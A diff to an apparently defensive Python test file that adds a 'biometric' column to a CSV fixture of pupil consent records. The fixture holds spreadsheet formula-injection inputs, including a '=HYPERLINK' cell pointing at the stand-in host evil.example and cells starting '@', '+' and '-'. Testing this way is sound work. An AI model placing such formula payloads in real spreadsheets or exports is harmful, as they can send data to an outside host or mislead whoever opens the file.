@@ -24,11 +24,11 @@ from tests.hostile_helpers import (formula_cells, long_name, make_hostile_tree, 
                                    write_xmp_bomb)
 
 REGISTER = (
-    "person_id,given_name,family_name,group,role,website,social,newsletter,press,expires,never_publish\n"
-    "P001,Amelia,Hart,Y4,pupil,yes,no,yes,no,,no\n"
-    'P002,=HYPERLINK("http://evil.example/?x"),Adams,Y4,pupil,no,no,no,no,,no\n'
-    "P003,@SUM(1+1),+Cmd,Y5,pupil,yes,yes,yes,yes,,no\n"
-    "P004,-Minus,\tTab,Y5,pupil,yes,yes,yes,yes,,no\n"
+    "person_id,given_name,family_name,group,role,website,social,newsletter,press,expires,never_publish,biometric\n"
+    "P001,Amelia,Hart,Y4,pupil,yes,no,yes,no,,no,yes\n"
+    'P002,=HYPERLINK("http://evil.example/?x"),Adams,Y4,pupil,no,no,no,no,,no,yes\n'
+    "P003,@SUM(1+1),+Cmd,Y5,pupil,yes,yes,yes,yes,,no,yes\n"
+    "P004,-Minus,\tTab,Y5,pupil,yes,yes,yes,yes,,no,yes\n"
 )
 
 
